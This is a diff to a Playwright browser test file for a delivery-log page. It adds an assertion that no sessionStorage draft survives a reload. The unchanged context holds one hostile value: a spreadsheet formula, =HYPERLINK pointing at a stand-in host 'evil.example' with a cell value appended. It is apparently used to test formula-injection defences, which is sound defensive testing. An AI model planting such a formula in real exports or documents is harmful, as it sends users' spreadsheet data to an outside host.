@@ -24,6 +24,8 @@ expect.set_options(timeout=PATIENCE_MS)
 ZONE = "Asia/Kolkata"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 HEIGHTS = "() => [...document.querySelectorAll('tbody tr')].map((row) => row.getBoundingClientRect().height)"
+DRAFTED = """() => Object.keys(sessionStorage).filter((key) => key.startsWith("smith_draft"))
+    .flatMap((key) => Object.keys(JSON.parse(sessionStorage.getItem(key)).page))"""
 CALL = """
 INSERT INTO action_runs (id, account_id, action_id, device_id, repeatable, url, method, state, due_at, attempts,
                          status_code, response_body, reason, message, created_at, settled_at)
@@ -137,6 +139,8 @@ def test_filters_are_in_the_address_and_outlive_a_reload_the_way_back_and_a_shar
     page.reload()
     expect(page.get_by_role("searchbox")).to_have_value(word)
     expect(rows(page)).to_have_count(3)
+    # It was not a draft that an outage has interrupted.
+    assert page.evaluate(DRAFTED) == []
     click_beside_the_text(rows(page).first)
     expect(page).to_have_url(re.compile(r"/delivery-log/[0-9a-f-]{36}$"))
     page.go_back()
